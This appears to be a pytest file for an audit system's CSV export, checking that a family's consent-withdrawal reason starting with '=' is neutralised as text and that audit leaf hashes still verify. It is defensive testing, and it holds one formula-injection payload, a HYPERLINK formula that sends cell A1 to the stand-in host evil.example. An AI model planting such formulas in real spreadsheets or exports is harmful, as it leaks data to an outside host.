"""The IG CSV export never hands a spreadsheet a formula: a family's withdrawal reason that starts
with ``=`` reaches IG's CSV as text (a leading apostrophe), and its leaf still verifies."""

from __future__ import annotations

import base64
import csv
import io

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from audit.encoding import EVENT_FIELDS
from audit.export import _leaf_of, csv_value
from broker.dev.demo import demo_id

pytestmark = pytest.mark.usefixtures("demo")

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click for your report")'


def test_a_familys_formula_reaches_the_csv_as_text(
        app: FastAPI, client: TestClient, auth_headers, web_session) -> None:  # type: ignore[no-untyped-def]
    sarah = auth_headers("sarah.clarke")
    consents = client.get("/api/v1/consents", params={"subject_id": str(demo_id("person:amelia"))}, headers=sarah).json()
    active = next(c for c in consents if c["status"] == "active")
    withdrawn = client.post(f"/api/v1/consents/{active['id']}/withdraw", json={"reason": FORMULA}, headers=sarah)
    assert withdrawn.status_code == 200, withdrawn.text

    cookies, _ = web_session("ig.auditor")
    with TestClient(app, base_url="https://testserver", cookies=cookies) as auditor:
        exported = auditor.get("/ig/audit/export", params={"format": "csv"})
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    carrying = [(row, name) for row in rows for name, cell in row.items() if FORMULA in (cell or "")]
    assert carrying, "the withdrawal reason is not in the export"
    # The reason is its own column: there it starts the cell, and is written as text.
    assert [row[name] for row, name in carrying if name == "reason"] == ["'" + FORMULA]
    for row in rows:
        assert not any((cell or "").startswith(("=", "+", "@", "\t", "\r")) for cell in row.values())
        # What a recipient does: take each cell's original value back, and recompute the leaf.
        record = {name: (csv_value(row[name]) if row[name] != "" else None) for name in EVENT_FIELDS}
        record |= {"seq": row["seq"], "recorded_at": row["recorded_at"], "details": csv_value(row["details"])}
        assert _leaf_of(record) == base64.b64decode(row["leaf_hash"]), row["seq"]
